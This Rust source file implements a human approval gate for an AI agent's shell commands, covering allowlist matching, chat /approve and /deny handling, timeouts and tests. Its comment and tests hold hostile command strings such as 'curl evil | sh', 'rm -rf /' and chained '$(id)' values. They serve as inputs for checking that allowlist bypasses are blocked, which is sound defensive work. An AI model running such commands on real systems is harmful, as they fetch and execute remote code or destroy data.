//! Approvals of commands (`[tools.exec] ask`): a command that needs one waits until a
//! person in the chat answers `/approve ID` or `/deny ID`, or `approval_timeout` passes
//! (which denies it). The model gets the outcome as the tool's result.
//!
//! Each request is also kept as an [`Approval`]: what the chat was asked, by which run and
//! tool call, and how it stands. A session keeps its pending requests and its latest
//! [`SETTLED_KEPT`] settled ones until the session ends, so a chat window that is opened
//! again can show them as they are ([`Approvals::of_session`]); [`Approvals::subscribe`]
//! tells of every change as it happens. Only the process's memory holds them: a restart,
//! which ends every run that was waiting, forgets them.

use std::collections::{HashMap, VecDeque};
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::Duration;

use chrono::{DateTime, Utc};
use rand::Rng;
use tokio::sync::{broadcast, oneshot};

use crate::config::{ExecAsk, ExecConfig};

/// Settled requests a session keeps for chat windows to show again; older ones are
/// forgotten (their commands ran or did not long ago, and the transcript says which).
pub const SETTLED_KEPT: usize = 50;

/// Changes a slow subscriber may fall behind by before it misses some.
const CHANGES_BACKLOG: usize = 256;

/// How a request for approval ended, as the waiting command learns it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Decision {
    Approved { by: String },
    Denied { by: String },
    TimedOut,
}

/// Where a request for approval stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ApprovalState {
    /// Waiting for `/approve ID` or `/deny ID`.
    Pending,
    Approved {
        by: String,
    },
    Denied {
        by: String,
    },
    /// Nobody answered within `approval_timeout`, which denied it.
    TimedOut,
    /// The call that asked ended without an answer: its run was stopped, or the
    /// conversation was reset.
    Withdrawn,
}

impl ApprovalState {
    /// Whether it still waits for an answer (and a chat may still offer to give one).
    pub fn is_pending(&self) -> bool {
        matches!(self, ApprovalState::Pending)
    }
}

impl From<Decision> for ApprovalState {
    fn from(decision: Decision) -> Self {
        match decision {
            Decision::Approved { by } => ApprovalState::Approved { by },
            Decision::Denied { by } => ApprovalState::Denied { by },
            Decision::TimedOut => ApprovalState::TimedOut,
        }
    }
}

/// One request to approve a command: what the chat was asked, and how it stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Approval {
    /// What `/approve` and `/deny` name: six characters, unique among the session's
    /// requests kept here.
    pub id: String,
    pub session_key: String,
    /// The run and its tool call that asked: where the request belongs in the conversation.
    pub run_id: String,
    pub call_id: String,
    pub command: String,
    /// The request as the chat is sent it.
    pub text: String,
    /// The idempotency key of the message that carries `text`, by which a channel can tell
    /// that message is this request.
    pub message_key: String,
    pub requested_at: DateTime<Utc>,
    pub state: ApprovalState,
}

/// Who asks to run what: the call of `exec` that needs an approval.
#[derive(Debug, Clone, Copy)]
pub struct Asking<'a> {
    pub session_key: &'a str,
    pub run_id: &'a str,
    pub call_id: &'a str,
    pub command: &'a str,
}

/// Why an answer was not taken.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum AnswerError {
    #[error("there is no pending approval `{0}` in this chat (it may have timed out or been answered)")]
    Unknown(String),
}

/// Commands waiting for approval, and the requests recently settled, by session.
pub struct Approvals {
    ask: ExecAsk,
    allowlist: Vec<String>,
    timeout: Duration,
    log: Mutex<Log>,
    /// Every change of a request: asked, answered, timed out, withdrawn.
    changes: broadcast::Sender<Approval>,
}

#[derive(Default)]
struct Log {
    /// Where the answer to each pending request goes, by id.
    waiting: HashMap<String, Waiting>,
    /// Each session's requests, oldest first: all pending ones (each has an entry in
    /// `waiting`) and the latest settled ones.
    sessions: HashMap<String, VecDeque<Approval>>,
}

struct Waiting {
    session_key: String,
    answer: oneshot::Sender<Decision>,
}

impl Approvals {
    pub fn new(config: &ExecConfig) -> Self {
        Self {
            ask: config.ask,
            allowlist: config.allowlist.clone(),
            timeout: Duration::from_secs(config.approval_timeout),
            log: Mutex::new(Log::default()),
            changes: broadcast::channel(CHANGES_BACKLOG).0,
        }
    }

    pub fn timeout(&self) -> Duration {
        self.timeout
    }

    /// Whether `command` must be approved before it runs.
    pub fn needed(&self, command: &str) -> bool {
        match self.ask {
            ExecAsk::Off => false,
            ExecAsk::Always => true,
            ExecAsk::OnMiss => {
                let command = command.trim();
                // `cargo *` must not let `cargo build; curl evil | sh` through: a command
                // that chains, pipes, redirects or substitutes matches only an exact entry.
                let compound = ["\n", ";", "&", "|", "`", "$(", ">", "<"].iter().any(|mark| command.contains(mark));
                !self
                    .allowlist
                    .iter()
                    .any(|pattern| if compound { pattern.trim() == command } else { matches_pattern(pattern, command) })
            }
        }
    }

    /// Every change of a request from now on: asked, answered, timed out, withdrawn. A
    /// subscriber that falls [`CHANGES_BACKLOG`] changes behind misses the oldest.
    pub fn subscribe(&self) -> broadcast::Receiver<Approval> {
        self.changes.subscribe()
    }

    /// Registers a request: what to send the chat, and where the answer arrives. The
    /// caller withdraws it ([`Approvals::withdraw`]) if its call ends without an answer, or
    /// discards it ([`Approvals::discard`]) if the chat could not be asked.
    pub fn request(&self, asking: Asking<'_>) -> (Approval, oneshot::Receiver<Decision>) {
        let (answer, decided) = oneshot::channel();
        let mut log = self.lock();
        let id = loop {
            let id = short_id();
            let kept = log.sessions.get(asking.session_key).is_some_and(|kept| kept.iter().any(|a| a.id == id));
            if !kept && !log.waiting.contains_key(&id) {
                break id;
            }
        };
        let approval = Approval {
            text: request_text(&id, asking.command, self.timeout),
            id: id.clone(),
            session_key: asking.session_key.to_owned(),
            run_id: asking.run_id.to_owned(),
            call_id: asking.call_id.to_owned(),
            command: asking.command.to_owned(),
            message_key: format!("{}:{}:approval", asking.run_id, asking.call_id),
            requested_at: Utc::now(),
            state: ApprovalState::Pending,
        };
        log.waiting.insert(id, Waiting { session_key: approval.session_key.clone(), answer });
        log.sessions.entry(approval.session_key.clone()).or_default().push_back(approval.clone());
        let _ = self.changes.send(approval.clone());
        (approval, decided)
    }

    /// `/approve ID` or `/deny ID` from `by` in `session_key`'s chat; the command on success.
    /// Only the chat the request was shown in can answer it.
    pub fn answer(&self, session_key: &str, id: &str, approve: bool, by: &str) -> Result<String, AnswerError> {
        let id = id.trim().to_lowercase();
        let mut log = self.lock();
        if log.waiting.get(&id).is_none_or(|waiting| waiting.session_key != session_key) {
            return Err(AnswerError::Unknown(id));
        }
        let Some(waiting) = log.waiting.remove(&id) else { return Err(AnswerError::Unknown(id)) };
        let by = by.to_owned();
        let decision = if approve { Decision::Approved { by } } else { Decision::Denied { by } };
        let settled = self.settle(&mut log, session_key, &id, decision.clone().into());
        // The run may have stopped meanwhile; then there is nobody to tell.
        let _ = waiting.answer.send(decision);
        settled.map(|approval| approval.command).ok_or(AnswerError::Unknown(id))
    }

    /// `approval_timeout` passed for request `id`: it is denied, unless an answer came in
    /// the same instant, which then stands. The decision the command abides by.
    pub fn time_out(&self, id: &str) -> Decision {
        let mut log = self.lock();
        if let Some(waiting) = log.waiting.remove(id) {
            self.settle(&mut log, &waiting.session_key, id, ApprovalState::TimedOut);
            return Decision::TimedOut;
        }
        let state = log.sessions.values().flatten().find(|approval| approval.id == id).map(|a| a.state.clone());
        match state {
            Some(ApprovalState::Approved { by }) => Decision::Approved { by },
            Some(ApprovalState::Denied { by }) => Decision::Denied { by },
            _ => Decision::TimedOut,
        }
    }

    /// The call that asked ended without an answer (its run stopped): the request is
    /// settled as withdrawn. Nothing happens to a request already settled.
    pub fn withdraw(&self, id: &str) {
        let mut log = self.lock();
        if let Some(waiting) = log.waiting.remove(id) {
            self.settle(&mut log, &waiting.session_key, id, ApprovalState::Withdrawn);
        }
    }

    /// Forgets a request the chat never saw (sending it failed).
    pub fn discard(&self, id: &str) {
        let mut log = self.lock();
        let Some(waiting) = log.waiting.remove(id) else { return };
        if let Some(kept) = log.sessions.get_mut(&waiting.session_key) {
            kept.retain(|approval| approval.id != id);
        }
    }

    /// The session ended (`/new`, a reset): its requests go with it. A command still
    /// waiting learns that no answer will come, and subscribers that its request was
    /// withdrawn.
    pub fn session_ended(&self, session_key: &str) {
        let mut log = self.lock();
        log.waiting.retain(|_, waiting| waiting.session_key != session_key);
        for mut approval in log.sessions.remove(session_key).into_iter().flatten() {
            if approval.state.is_pending() {
                approval.state = ApprovalState::Withdrawn;
                let _ = self.changes.send(approval);
            }
        }
    }

    /// The requests `session_key` keeps, oldest first: the pending ones and the latest
    /// settled ones.
    pub fn of_session(&self, session_key: &str) -> Vec<Approval> {
        self.lock().sessions.get(session_key).map(|kept| kept.iter().cloned().collect()).unwrap_or_default()
    }

    /// The pending request that the message with idempotency key `message_key` asks, if
    /// that message is one.
    pub fn pending_for_message(&self, message_key: &str) -> Option<Approval> {
        let log = self.lock();
        log.waiting.iter().find_map(|(id, waiting)| {
            let kept = log.sessions.get(&waiting.session_key)?;
            kept.iter().find(|approval| &approval.id == id && approval.message_key == message_key).cloned()
        })
    }

    /// Records how request `id` ended, keeps the session's settled requests to
    /// [`SETTLED_KEPT`] and tells subscribers; the request as it now stands.
    fn settle(&self, log: &mut Log, session_key: &str, id: &str, state: ApprovalState) -> Option<Approval> {
        let kept = log.sessions.get_mut(session_key)?;
        let approval = kept.iter_mut().find(|approval| approval.id == id)?;
        approval.state = state;
        let settled = approval.clone();
        let mut excess =
            kept.iter().filter(|approval| !approval.state.is_pending()).count().saturating_sub(SETTLED_KEPT);
        kept.retain(|approval| {
            let forget = excess > 0 && !approval.state.is_pending();
            excess -= usize::from(forget);
            !forget
        });
        let _ = self.changes.send(settled.clone());
        Some(settled)
    }

    fn lock(&self) -> MutexGuard<'_, Log> {
        self.log.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

/// What the chat is sent to ask for an approval.
fn request_text(id: &str, command: &str, timeout: Duration) -> String {
    let minutes = timeout.as_secs().div_ceil(60);
    format!(
        "🔐 Approval needed to run this command:\n```\n{command}\n```\nReply /approve {id} to run it, or /deny {id}. \
         (No answer within {minutes} min denies it.)"
    )
}

/// Six characters from an alphabet that cannot be misread (no 0/o, 1/l/i).
fn short_id() -> String {
    const ALPHABET: &[u8] = b"abcdefghjkmnpqrstuvwxyz23456789";
    let mut rng = rand::rng();
    (0..6).map(|_| char::from(ALPHABET[rng.random_range(0..ALPHABET.len())])).collect()
}

/// Whether `command` matches `pattern`, where `*` stands for any text (none included).
pub fn matches_pattern(pattern: &str, command: &str) -> bool {
    let pattern = pattern.trim();
    let parts: Vec<&str> = pattern.split('*').collect();
    if parts.len() == 1 {
        return pattern == command;
    }
    let (first, last) = (parts[0], parts[parts.len() - 1]);
    if !command.starts_with(first) || command.len() < first.len() + last.len() || !command.ends_with(last) {
        return false;
    }
    let mut rest = &command[first.len()..command.len() - last.len()];
    for middle in &parts[1..parts.len() - 1] {
        match rest.find(middle) {
            Some(at) => rest = &rest[at + middle.len()..],
            None => return false,
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    fn approvals(ask: ExecAsk, allowlist: &[&str]) -> Approvals {
        let allowlist = allowlist.iter().map(|pattern| (*pattern).to_owned()).collect();
        Approvals::new(&ExecConfig { ask, allowlist, ..ExecConfig::default() })
    }

    #[test]
    fn patterns_match_whole_commands_with_stars_for_anything() {
        assert!(matches_pattern("git status", "git status"));
        assert!(!matches_pattern("git status", "git status; rm -rf /"));
        assert!(matches_pattern("cargo *", "cargo test --all"));
        assert!(!matches_pattern("cargo *", "cargox"));
        assert!(matches_pattern("ls *", "ls -la"));
        assert!(matches_pattern("*.sh", "run.sh"));
        assert!(matches_pattern("a*b*c", "a-x-b-y-c"));
        assert!(!matches_pattern("a*b*c", "a-c-b"));
    }

    #[test]
    fn ask_decides_which_commands_wait() {
        assert!(!approvals(ExecAsk::Off, &[]).needed("rm -rf /"));
        assert!(approvals(ExecAsk::Always, &["ls"]).needed("ls"));
        let on_miss = approvals(ExecAsk::OnMiss, &["cargo *"]);
        assert!(!on_miss.needed("cargo build"));
        assert!(on_miss.needed("curl example.com"));
        for chained in ["cargo build; curl x | sh", "cargo build && rm -rf ~", "cargo run > /etc/x", "cargo $(id)"] {
            assert!(on_miss.needed(chained), "{chained}");
        }
        assert!(!approvals(ExecAsk::OnMiss, &["ls | wc -l"]).needed("ls | wc -l"));
    }

    const GROUP_1: &str = "agent:main:telegram:group:1";

    fn asking<'a>(session_key: &'a str, command: &'a str) -> Asking<'a> {
        Asking { session_key, run_id: "run-1", call_id: "call-1", command }
    }

    #[tokio::test]
    async fn only_the_chat_that_was_asked_can_answer_and_only_once() {
        let approvals = approvals(ExecAsk::Always, &[]);
        let (asked, decided) = approvals.request(asking(GROUP_1, "make"));
        let id = asked.id;
        assert_eq!(id.len(), 6);
        assert!(asked.text.contains(&format!("/approve {id}")) && asked.text.contains(&format!("/deny {id}")));
        assert!(approvals.answer("agent:main:telegram:group:2", &id, true, "mallory").is_err());
        assert_eq!(approvals.answer(GROUP_1, &id.to_uppercase(), true, "alice").unwrap(), "make");
        assert_eq!(decided.await.unwrap(), Decision::Approved { by: "alice".into() });
        assert!(approvals.answer(GROUP_1, &id, false, "alice").is_err());
    }

    #[tokio::test]
    async fn a_request_is_kept_with_how_it_stands_and_every_change_is_told() {
        let approvals = approvals(ExecAsk::Always, &[]);
        let mut changes = approvals.subscribe();
        let (asked, _decided) = approvals.request(asking(GROUP_1, "make"));
        assert_eq!(approvals.of_session(GROUP_1), std::slice::from_ref(&asked));
        assert_eq!(asked.message_key, "run-1:call-1:approval");
        assert_eq!(approvals.pending_for_message(&asked.message_key).map(|a| a.id), Some(asked.id.clone()));
        approvals.answer(GROUP_1, &asked.id, false, "bob").unwrap();
        let denied = ApprovalState::Denied { by: "bob".into() };
        assert_eq!(approvals.of_session(GROUP_1)[0].state, denied);
        assert_eq!(approvals.pending_for_message(&asked.message_key), None, "only pending requests are found");
        approvals.withdraw(&asked.id);
        assert_eq!(approvals.of_session(GROUP_1)[0].state, denied, "withdrawing a settled request changes nothing");

        let (stopped, _decided) = approvals.request(asking(GROUP_1, "make install"));
        approvals.withdraw(&stopped.id);
        let states: Vec<ApprovalState> = approvals.of_session(GROUP_1).into_iter().map(|a| a.state).collect();
        assert_eq!(states, [denied.clone(), ApprovalState::Withdrawn]);
        let told: Vec<(String, ApprovalState)> =
            std::iter::from_fn(|| changes.try_recv().ok()).map(|a| (a.id, a.state)).collect();
        assert_eq!(
            told,
            [
                (asked.id.clone(), ApprovalState::Pending),
                (asked.id, denied),
                (stopped.id.clone(), ApprovalState::Pending),
                (stopped.id, ApprovalState::Withdrawn),
            ]
        );
        assert!(approvals.of_session("agent:main:telegram:group:2").is_empty());
    }

    #[tokio::test]
    async fn a_timeout_denies_unless_an_answer_came_first() {
        let approvals = approvals(ExecAsk::Always, &[]);
        let (late, _decided) = approvals.request(asking(GROUP_1, "make"));
        assert_eq!(approvals.time_out(&late.id), Decision::TimedOut);
        assert_eq!(approvals.of_session(GROUP_1)[0].state, ApprovalState::TimedOut);
        assert!(approvals.answer(GROUP_1, &late.id, true, "alice").is_err(), "too late");

        let (answered, _decided) = approvals.request(asking(GROUP_1, "make"));
        approvals.answer(GROUP_1, &answered.id, true, "alice").unwrap();
        assert_eq!(approvals.time_out(&answered.id), Decision::Approved { by: "alice".into() }, "the answer stands");
    }

    #[tokio::test]
    async fn a_session_keeps_its_latest_settled_requests_and_forgets_all_when_it_ends() {
        let approvals = approvals(ExecAsk::Always, &[]);
        let (waiting, decided) = approvals.request(asking(GROUP_1, "sleep 1"));
        let mut ids = Vec::new();
        for n in 0..SETTLED_KEPT + 5 {
            let (asked, _decided) = approvals.request(asking(GROUP_1, &format!("echo {n}")));
            approvals.answer(GROUP_1, &asked.id, false, "bob").unwrap();
            ids.push(asked.id);
        }
        let kept: Vec<String> = approvals.of_session(GROUP_1).into_iter().map(|a| a.id).collect();
        assert_eq!(kept.len(), SETTLED_KEPT + 1);
        assert_eq!(kept[0], waiting.id, "a pending request is never forgotten");
        assert_eq!(kept[1..], ids[5..], "the oldest settled ones are");

        let (failed, _decided) = approvals.request(asking(GROUP_1, "unsent"));
        approvals.discard(&failed.id);
        assert!(approvals.of_session(GROUP_1).iter().all(|a| a.id != failed.id), "a request never sent leaves nothing");

        let mut changes = approvals.subscribe();
        approvals.session_ended(GROUP_1);
        assert!(approvals.of_session(GROUP_1).is_empty());
        let told = changes.try_recv().map(|a| (a.id, a.state));
        assert_eq!(told, Ok((waiting.id.clone(), ApprovalState::Withdrawn)), "only the pending one is told of");
        assert!(changes.try_recv().is_err());
        assert!(decided.await.is_err(), "the waiting command learns no answer will come");
        assert!(approvals.answer(GROUP_1, &waiting.id, true, "alice").is_err());
    }
}
